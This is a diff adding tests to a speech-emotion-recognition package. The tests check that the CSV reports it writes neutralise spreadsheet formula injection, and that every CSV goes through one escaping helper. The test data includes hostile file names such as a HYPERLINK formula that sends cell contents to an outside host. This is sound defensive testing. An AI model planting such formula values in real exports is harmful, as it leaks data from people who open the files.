@@ -48,3 +48,38 @@ def test_write_report_files(tmp_path):
     preds = pd.read_csv(tmp_path / "predictions.csv")
     assert list(preds.columns) == ["path", "true", "predicted", *EMOTIONS]
     assert list(preds.predicted) == ["neutral", "calm", "happy"]
+
+
+HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1,\"a\").wav", "+1.wav", "-2.wav", "@SUM(A1).wav", "\tx.wav", "'quoted.wav",
+           "plain.wav"]
+
+
+def test_predictions_and_split_csv_neutralise_formula_cells_and_read_back(tmp_path):
+    # issue 22 item 12: a file name like =HYPERLINK(...) was written raw and ran in a spreadsheet
+    import csv
+
+    from ser.evaluate import read_results
+
+    probs = np.eye(len(EMOTIONS))[[i % len(EMOTIONS) for i in range(len(HOSTILE))]]
+    write_report(tmp_path, paths=HOSTILE, y_true=[EMOTIONS[i % 8] for i in range(len(HOSTILE))], probs=probs,
+                 emotions=EMOTIONS)
+    with open(tmp_path / "predictions.csv", newline="") as f:
+        cells = [row[0] for row in csv.reader(f)][1:]
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    assert cells[0].startswith("'=HYPERLINK") and cells[-1] == "plain.wav"
+    assert list(read_results(tmp_path)["predictions"]["path"]) == HOSTILE  # our own file reads back as it was
+
+
+def test_every_csv_ser_writes_goes_through_the_one_neutralising_helper():
+    # issue 22 item 12: predictions.csv, split.csv, history.csv and the labels were each written by to_csv
+    import re
+    from pathlib import Path
+
+    import ser
+
+    root = Path(ser.__file__).parent
+    raw = [f"{p.name}:{n}" for p in sorted(root.glob("*.py")) if p.name != "csvsafe.py"
+           for n, line in enumerate(p.read_text().splitlines(), 1)
+           if re.search(r"\.to_csv\(|DictWriter\(", line)
+           or ("writerow(" in line and "neutralise_cell" not in line and "_HEADER" not in line)]
+    assert raw == []
